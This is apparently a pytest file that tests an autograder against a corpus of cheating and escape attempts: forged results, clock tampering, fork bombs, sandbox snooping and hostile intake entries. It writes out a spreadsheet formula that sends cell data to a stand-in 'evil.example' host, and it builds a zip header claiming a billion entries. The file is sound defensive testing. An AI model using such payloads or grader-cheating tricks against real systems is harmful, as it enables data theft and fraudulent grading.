"""The attack corpus: submissions that try to cheat, crash or escape earn nothing.

Each module in tests/fixtures/attacks/ wraps a wrong solution of exercise 03 (wrong
order, sequential, blocking) around one attack. Every one must score zero with a clear
reason, leave nothing behind (files, processes, network traffic), and never hang or
crash the grader.
"""

from __future__ import annotations

import hashlib
import json
import os
import site
import socket
import subprocess
import sys
import threading
import time
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from grader.course.course import Exercise
from grader.supervision.runner import grade_file
from grader.supervision.sandbox import shared_cells
from grader.supervision.screen import screen_source
from helpers import FIXTURES, REPO

ATTACKS = FIXTURES / "attacks"

REASONS = {
    "os_exit_at_import": "exit status 0",
    "sys_exit_in_check": "SystemExit",
    "base_exception_subclass": "Escape",
    "sleep_forever_at_import": "did not finish",
    "blocks_the_timeout_signal": "stopped",
    "memory_bomb": "MemoryError",
    "fork_bomb": "",
    "writes_outside": "",
    "tampers_with_tests": "",
    "plants_pth": "",
    "patches_pytest": "Flagged for review",
    "patches_grader": "Flagged for review",
    "forges_result_channel": "Flagged for review",
    "always_equal": "returned",
    "fakes_time": "Flagged for review",
    "leaves_threads_and_processes": "",
    "reads_environment": "secret=no secret",
}


def grade_attack(exercise: Exercise, path: Path):  # type: ignore[no-untyped-def]
    started = time.perf_counter()
    result = grade_file(exercise, path, time_limit=1.0, screen=False)
    assert time.perf_counter() - started < 60, "the grader must never hang"
    return result


def assert_zero_with_reasons(result, reason: str) -> None:  # type: ignore[no-untyped-def]
    assert result.score == 0, [(c.name, c.status) for c in result.checks]
    for check in result.checks:
        assert check.status != "passed"
        assert check.feedback is not None and check.feedback.what
    everything = " ".join(f"{c.feedback.what} {c.traceback}" for c in result.checks)
    assert reason in everything


def test_every_attack_has_an_expected_reason() -> None:
    new = {a.name for a in ALL_ATTACKS} - set(REASONS)
    files = {p.stem for p in ATTACKS.glob("*.py")} - new - HELPERS
    assert files == set(REASONS)


@pytest.fixture(scope="module", autouse=True)
def _forked_like_bulk_grading():  # type: ignore[no-untyped-def]
    """Grade the corpus the way `grade bulk` does: children forked from the warm server."""
    with shared_cells():
        yield


@pytest.mark.parametrize("attack", sorted(REASONS))
def test_attack_earns_nothing(attack: str, exercise03: Exercise,
                              monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("GRADER_TEST_SECRET", "hunter2")  # must never reach student code
    suite_hash = hashlib.sha256(exercise03.suite_file.read_bytes()).hexdigest()
    result = grade_attack(exercise03, ATTACKS / f"{attack}.py")
    assert_zero_with_reasons(result, REASONS[attack])
    # Nothing persisted for the next student.
    assert hashlib.sha256(exercise03.suite_file.read_bytes()).hexdigest() == suite_hash
    assert not (exercise03.suite_file.parent / "conftest.py").exists()
    for folder in site.getsitepackages():
        assert not Path(folder, "zz_attack.pth").exists()
    for marker in ("/tmp/async-grader-attack-marker", "/root/async-grader-attack-marker",
                   str(REPO.parent / "async-grader-attack-marker")):
        assert not Path(marker).exists()


def test_no_process_outlives_the_grading(exercise03: Exercise) -> None:
    grade_attack(exercise03, ATTACKS / "leaves_threads_and_processes.py")
    left = subprocess.run(["pgrep", "-f", "sleep 987654"], capture_output=True, text=True)
    assert left.stdout.strip() == ""


def test_protections_are_all_active_here(exercise03: Exercise) -> None:
    """On Linux as root (CI), no protection may be silently missing."""
    if os.geteuid() != 0 or not Path("/sys/fs/cgroup/pids").is_dir():
        pytest.skip("needs root and cgroup v1 pids, as on CI")
    result = grade_file(exercise03, exercise03.solution_file)
    assert result.notes == ()


def test_a_replacement_without_a_reference_to_the_original_is_caught() -> None:
    """The original may be freed once replaced; its id must not vouch for the impostor."""
    import gc

    import grader.child.plugin
    from grader.child.integrity import Watchlist

    watch = Watchlist()
    original = grader.child.plugin._record_for
    try:
        def impostor(item, phases):  # type: ignore[no-untyped-def]
            return {}

        grader.child.plugin._record_for = impostor
        gc.collect()
        assert "grader.child.plugin._record_for" in watch.changed()
    finally:
        grader.child.plugin._record_for = original
    assert watch.changed() == []


# -- the adversarial suite: attacks by class, graded singly and as one class -------------
#
# Each attack below starts from honest code (the stub, 0/11, or a sequential solution,
# 7/11, in bases/) and may keep at most what that code earns. Graded singly, the static
# screen is turned off, so each runtime layer is tested on its own; an attack that gets
# past the runtime layers alone is a strict xfail saying so, and
# test_the_screen_refuses_every_attack_on_the_grading_itself checks the screen stops it.
# The class-wide `grade bulk` run has every layer on.

SEQUENTIAL = ATTACKS / "bases" / "sequential.py"


@dataclass(frozen=True)
class Attack:
    """An attack module, the most it may score, and a text its result must show."""

    name: str
    at_most: int = 0
    reason: str = ""
    succeeds_today: str = ""  # why it still succeeds: the defence that will stop it

    @property
    def path(self) -> Path:
        return ATTACKS / f"{self.name}.py"


FORGE_PIPE = ("forging the result pipe with observations the encoder made from fabricated "
              "objects: the judge cannot tell them from real ones while the pipe is "
              "writable from student code (needs the checks out of the student's process)")
NO_JUDGE_FOR_TAMPERED_STATE = (
    "rewriting the live FakeIO timeline and the loop's _now before the test observes it: "
    "consistent observations, so the judge agrees (needs the checks out of the student's "
    "process)")

FORGING = [
    Attack("forges_channel_then_exits", reason="Flagged for review"),
    Attack("forges_channel_then_silences_it", reason="Flagged for review"),
    Attack("floods_channel_after_forging", reason="Flagged for review"),
    Attack("writes_garbage_records"),
    Attack("swallows_own_results", reason="Flagged for review"),
    Attack("closes_channel_after_forging"),
    Attack("reports_malformed_fields", reason="Flagged for review"),
    Attack("forges_observations_then_exits", succeeds_today=FORGE_PIPE),
    Attack("forges_observations_then_silences", succeeds_today=FORGE_PIPE),
]
TAMPERING = [
    Attack("disables_watchlist", at_most=7),
    Attack("swaps_code_objects", at_most=7),
    Attack("restores_patches_while_watched", at_most=7),
    Attack("gc_rewinds_clock", at_most=7),
    Attack("rewinds_the_clock", at_most=7, succeeds_today=NO_JUDGE_FOR_TAMPERED_STATE),
    Attack("always_equal"),
]
SANDBOX = [
    Attack("snoops", at_most=7, reason="FINDINGS nothing"),
    Attack("reads_hidden_suite_from_memory", at_most=7, reason="FINDINGS nothing",
           succeeds_today="the hidden suite's module stays in sys.modules after its file is "
           "deleted; its constants and judges reach feedback through an exception"),
    Attack("signals_and_syscalls", at_most=7, reason="FINDINGS nothing"),
    Attack("reopens_channel_by_path", at_most=7, reason="FINDINGS nothing"),
    Attack("fills_scratch", at_most=7),
    Attack("memory_bomb_20_processes", at_most=7),
    Attack("floods_stdout", at_most=7),
    Attack("hangs_in_c", at_most=7, reason="did not respond to the usual timeout"),
    Attack("kills_its_group", at_most=7),
    Attack("escapes_in_output", at_most=7),
]
CLASSES = {"forging": FORGING, "tampering": TAMPERING, "sandbox": SANDBOX}
ALL_ATTACKS = [a for attacks in CLASSES.values() for a in attacks]
HELPERS = {"plants_daemon", "leaves_sysv_ipc", "finds_leftovers"}  # used in pairs below


def _cases(attacks: list[Attack], *, screened: bool = False) -> list[Any]:
    """Parameters; without the screen, what gets past the runtime layers is a strict xfail."""
    return [pytest.param(a, id=a.name, marks=[pytest.mark.xfail(
        strict=True, reason=a.succeeds_today)] if a.succeeds_today and not screened else [])
        for a in attacks]


RUNTIME_ONLY = {"always_equal", "base_exception_subclass", "memory_bomb",
                "sleep_forever_at_import", "fork_bomb", "floods_stdout", "fills_scratch",
                "memory_bomb_20_processes", "hangs_in_c", "os_exit_at_import",
                "sys_exit_in_check", "escapes_in_output", "leaves_threads_and_processes"}
"""Attacks built from ordinary Python (or on the machine, not the grading): the runtime
layers stop them and the screen has nothing to refuse."""


@pytest.mark.parametrize("path", sorted(p for p in ATTACKS.glob("*.py")
                                        if p.stem not in RUNTIME_ONLY), ids=lambda p: p.stem)
def test_the_screen_refuses_every_attack_on_the_grading_itself(
        path: Path, exercise03: Exercise) -> None:
    """Each attack that reaches for the grader's internals is refused before it runs."""
    findings = screen_source(path.read_bytes(), str(path), exercise03.meta.screen)
    assert findings, f"{path.name} got past the screen"
    result = grade_file(exercise03, path, time_limit=1.0)
    assert result.score == 0
    assert any(n.startswith("flagged for review: the screen") for n in result.notes)
    assert "was not run" in result.checks[0].feedback.what


def test_every_new_attack_is_in_a_class() -> None:
    files = {p.stem for p in ATTACKS.glob("*.py")} - set(REASONS)
    assert files == {a.name for a in ALL_ATTACKS if a.name not in REASONS} | HELPERS


def assert_held(result, attack: Attack) -> None:  # type: ignore[no-untyped-def]
    """The attack earned no more than its honest base, and says why."""
    shown = [(c.name, c.status, c.feedback.what[:120] if c.feedback else "")
             for c in result.checks]
    assert result.score <= attack.at_most, shown
    text = " ".join(f"{c.feedback.what} {c.traceback}" for c in result.checks
                    if c.feedback is not None)
    assert "LEAK" not in text, text
    assert attack.reason in text + " ".join(result.notes), shown


@pytest.mark.parametrize("attack", _cases(ALL_ATTACKS))
def test_attack_is_held(attack: Attack, exercise03: Exercise) -> None:
    result = grade_file(exercise03, attack.path, time_limit=1.0, owner=attack.name,
                        screen=False)
    assert_held(result, attack)


def grade_as(exercise: Exercise, path: Path, owner: str):  # type: ignore[no-untyped-def]
    started = time.perf_counter()
    result = grade_file(exercise, path, time_limit=1.0, owner=owner, screen=False)
    assert time.perf_counter() - started < 60, "the grader must never hang"
    return result


def test_a_daemon_does_not_outlive_its_grading(exercise03: Exercise) -> None:
    """A double-forked daemon waits to hand the next grading of its student the solution."""
    assert grade_as(exercise03, ATTACKS / "plants_daemon.py", "daemon").score == 7
    after = grade_as(exercise03, ATTACKS / "finds_leftovers.py", "daemon")
    assert_held(after, Attack("finds_leftovers", at_most=7, reason="FINDINGS nothing"))
    assert grade_as(exercise03, SEQUENTIAL, "daemon").score == 7


def test_full_scratch_folders_do_not_reach_the_next_grading(exercise03: Exercise) -> None:
    grade_as(exercise03, ATTACKS / "fills_scratch.py", "filler")
    again = grade_as(exercise03, SEQUENTIAL, "filler")
    assert again.score == 7, [(c.name, c.status) for c in again.checks]


def test_sysv_ipc_never_reaches_another_student(exercise03: Exercise) -> None:
    grade_as(exercise03, ATTACKS / "leaves_sysv_ipc.py", "ipc-writer")
    other = grade_as(exercise03, ATTACKS / "finds_leftovers.py", "ipc-reader")
    assert_held(other, Attack("finds_leftovers", at_most=7, reason="FINDINGS nothing"))


def test_sysv_ipc_does_not_survive_into_the_next_grading(exercise03: Exercise) -> None:
    grade_as(exercise03, ATTACKS / "leaves_sysv_ipc.py", "ipc-same")
    after = grade_as(exercise03, ATTACKS / "finds_leftovers.py", "ipc-same")
    assert_held(after, Attack("finds_leftovers", at_most=7, reason="FINDINGS nothing"))


def test_network_is_unreachable(exercise03: Exercise, tmp_path: Path) -> None:
    server = socket.create_server(("127.0.0.1", 0))
    server.settimeout(0.2)
    port = server.getsockname()[1]
    connections: list[bytes] = []
    stop = threading.Event()

    def accept() -> None:
        deadline = time.monotonic() + 30
        while time.monotonic() < deadline and not stop.is_set():
            try:
                conn, _ = server.accept()
            except TimeoutError:
                continue
            connections.append(conn.recv(100))
            conn.close()

    listener = threading.Thread(target=accept, daemon=True)
    listener.start()
    attack = tmp_path / "fetcher.py"
    attack.write_text((ATTACKS / "network.py.template").read_text().replace("PORT", str(port)))
    try:
        result = grade_as(exercise03, attack, "network")
    finally:
        stop.set()
        listener.join()
        server.close()
    assert connections == []
    assert_held(result, Attack("network", at_most=7, reason="FINDINGS nothing"))


# -- the terminal: what a student's text may do to the screen ----------------------------


@pytest.mark.parametrize("attack", ["escapes_in_output", "writes_garbage_records"])
def test_terminal_output_carries_no_escapes(attack: str) -> None:
    done = subprocess.run(
        [sys.executable, "-c", "from grader.cli import main; main()", "exercise-03", "--file",
         str(ATTACKS / f"{attack}.py")],
        capture_output=True, timeout=60, cwd=REPO, env={**os.environ, "COLUMNS": "100"},
    )
    assert done.returncode == 1, done.stderr[-2000:]
    out = done.stdout + done.stderr
    assert b"\x1b" not in out and b"\r" not in out and b"\x07" not in out
    assert b"Score: 0/11" in out or b"Score: 5/11" in out or b"Score: 7/11" in out
    assert b"Traceback (most recent call last)" not in done.stderr


# -- one class graded together: honest students beside every kind of attacker -------------

HONEST = {"honest-correct": 11, "honest-sequential": 7, "honest-stub": 0}
FORMULA_NAMES = ['=HYPERLINK("https:evil.example?x="&A1,"grades")', " =1+1", "＝1",
                 "@SUM(A1)", "-2+3"]
# The bulk class: every attacker that finishes in a second (the hanging ones cost the
# exercise's full time limit per check in bulk, and are graded singly above).
IN_BULK = [a for a in ALL_ATTACKS
           if a.name not in {"memory_bomb_20_processes", "hangs_in_c"}]
SANDBOX_UIDS = range(61000, 65001)
FORMULA_STARTS = ("=", "+", "-", "@", "＝", "＋", "－", "＠")


def _processes() -> dict[int, tuple[int, int, str]]:
    """pid -> (ppid, uid, command name) of every process on the machine."""
    found = {}
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit():
            continue
        try:
            status = dict(line.split(":", 1) for line in
                          (entry / "status").read_text().splitlines() if ":" in line)
            found[int(entry.name)] = (int(status["PPid"]), int(status["Uid"].split()[1]),
                                      status["Name"].strip())
        except (OSError, KeyError, ValueError):
            continue
    return found


def orphans() -> list[tuple[int, tuple[int, int, str]]]:
    """Sandbox processes no live grader owns: a bwrap whose grader is gone, or a process
    of a sandbox uid with no bwrap above it. (Other gradings on the machine have both.)"""
    table = _processes()

    def ancestors(pid: int) -> list[int]:
        chain = []
        while pid in table and pid > 1 and len(chain) < 100:
            pid = table[pid][0]
            chain.append(pid)
        return chain

    left = []
    for pid, (ppid, uid, name) in table.items():
        abandoned = name == "bwrap" and ppid == 1
        unowned = uid in SANDBOX_UIDS and not any(
            table.get(a, (0, 0, ""))[2] == "bwrap" for a in ancestors(pid))
        if abandoned or unowned:
            left.append((pid, table[pid]))
    return left


def _tree_digest(*folders: Path) -> str:
    digest = hashlib.sha256()
    for folder in folders:
        for path in sorted(folder.rglob("*")):
            if path.is_file() and "__pycache__" not in path.parts:
                digest.update(path.as_posix().encode() + path.read_bytes())
    return digest.hexdigest()


def _entry(submissions: Path, student: str, source: Path) -> None:
    folder = submissions / student
    folder.mkdir()
    (folder / "fetcher.py").write_bytes(source.read_bytes())


def _make_class(submissions: Path, exercise: Exercise) -> None:
    submissions.mkdir()
    _entry(submissions, "honest-correct", exercise.solution_file)
    _entry(submissions, "honest-sequential", SEQUENTIAL)
    _entry(submissions, "honest-stub", exercise.stub_file)
    for attack in IN_BULK:
        _entry(submissions, f"attacker-{attack.name}", attack.path)
    for name in FORMULA_NAMES:
        _entry(submissions, name, exercise.stub_file)
    # Intake: each of these is refused as an entry, never graded.
    (submissions / "link-to-solutions").symlink_to(exercise.solution_file.parent)
    hard = submissions / "hard-link"
    hard.mkdir()
    os.link(exercise.solution_file, hard / "fetcher.py")
    many = submissions / "many-folders"
    many.mkdir()
    (many / "fetcher.py").write_bytes(exercise.solution_file.read_bytes())
    for i in range(50_000):
        (many / f"d{i}").mkdir()
    os.mkfifo(submissions / "fifo.zip")
    (submissions / "huge-directory.zip").write_bytes(_zip_claiming(10**9, 2**31))


def _zip_claiming(entries: int, directory_bytes: int) -> bytes:
    """An empty zip whose end record claims ``entries`` members and a huge directory."""
    import struct

    count = min(entries, 0xFFFF)
    return struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, count, count,
                       min(directory_bytes, 0xFFFFFFFF), 0, 0)


@pytest.fixture(scope="module")
def bulk_class(exercise03: Exercise, tmp_path_factory: pytest.TempPathFactory):  # type: ignore[no-untyped-def]
    """`grade bulk --workers 2` over the whole class, once; what it left and wrote."""
    root = tmp_path_factory.mktemp("bulk-class")
    submissions, out = root / "submissions", root / "results"
    _make_class(submissions, exercise03)
    watched = (exercise03.suite_file.parent.parent, exercise03.solution_file.parent, submissions)
    before = _tree_digest(*watched)
    tmp_before = set(os.listdir("/tmp"))
    started = time.monotonic()
    done = subprocess.run(
        [sys.executable, "-c", "from grader.cli import main; main()", "bulk",
         str(submissions), "--out", str(out), "--exercises", "03", "--workers", "2"],
        capture_output=True, timeout=240, cwd=REPO,
    )
    seconds = time.monotonic() - started
    deadline = time.monotonic() + 10
    while orphans() and time.monotonic() < deadline:
        time.sleep(0.2)
    return {
        "done": done, "seconds": seconds, "out": out, "orphans": orphans(),
        "changed": _tree_digest(*watched) != before,
        "tmp_new": set(os.listdir("/tmp")) - tmp_before,
        "results": json.loads((out / "results.json").read_text()) if
        (out / "results.json").exists() else None,
    }


def _students(bulk) -> dict[str, Any]:  # type: ignore[no-untyped-def]
    assert bulk["results"] is not None, bulk["done"].stderr[-3000:]
    return {s["student"]: s for s in bulk["results"]["students"]}


def test_bulk_run_ends_cleanly(bulk_class) -> None:  # type: ignore[no-untyped-def]
    done = bulk_class["done"]
    assert done.returncode in (0, 1), done.stderr[-3000:]
    assert b"Traceback (most recent call last)" not in done.stderr
    assert bulk_class["orphans"] == []
    assert not bulk_class["changed"], "files outside the results folder changed"
    planted = {n for n in bulk_class["tmp_new"]
               if n.startswith(("fill-", "daemon", "async-grader-attack"))}
    assert planted == set()
    assert b"\x1b" not in done.stdout + done.stderr


def test_honest_students_are_graded_as_if_alone(bulk_class, exercise03: Exercise) -> None:  # type: ignore[no-untyped-def]
    students = _students(bulk_class)
    alone = {"honest-correct": exercise03.solution_file, "honest-sequential": SEQUENTIAL,
             "honest-stub": exercise03.stub_file}
    for student, points in HONEST.items():
        graded = students[student]
        assert _score(graded) == points, graded
        by_itself = grade_file(exercise03, alone[student], owner=f"alone-{student}")
        assert _statuses(graded) == {c.name: c.status for c in by_itself.checks}


def _outcome(student: dict[str, Any]) -> dict[str, Any]:
    (outcome,) = [e for e in student.get("exercises", []) if "03" in str(e.get("exercise"))]
    return outcome


def _score(student: dict[str, Any]) -> int | None:
    return _outcome(student).get("score")


def _statuses(student: dict[str, Any]) -> dict[str, str]:
    result = _outcome(student).get("result") or {}
    return {c["name"]: c["status"] for c in result.get("checks", [])}


@pytest.mark.parametrize("attack", _cases(IN_BULK, screened=True))
def test_attacker_in_bulk_earns_no_more_than_its_base(attack: Attack, bulk_class) -> None:  # type: ignore[no-untyped-def]
    student = _students(bulk_class)[f"attacker-{attack.name}"]
    assert (_score(student) or 0) <= attack.at_most, student
    assert "LEAK" not in json.dumps(student), student


@pytest.mark.parametrize("entry", ["link-to-solutions", "hard-link", "many-folders", "fifo",
                                   "huge-directory"])
def test_hostile_entries_are_refused_not_graded(entry: str, bulk_class) -> None:  # type: ignore[no-untyped-def]
    student = _students(bulk_class)[entry]
    assert student.get("problems"), student
    assert not student.get("exercises") or _score(student) in (None, 0), student


def test_formula_names_stay_text_in_the_csv(bulk_class) -> None:  # type: ignore[no-untyped-def]
    import csv

    rows = list(csv.reader((bulk_class["out"] / "grades.csv").read_text(encoding="utf-8")
                           .splitlines()))
    for row in rows[1:]:
        for cell in row:
            lead = cell.lstrip(" \t")[:1]
            assert lead not in FORMULA_STARTS or cell.startswith("'"), row
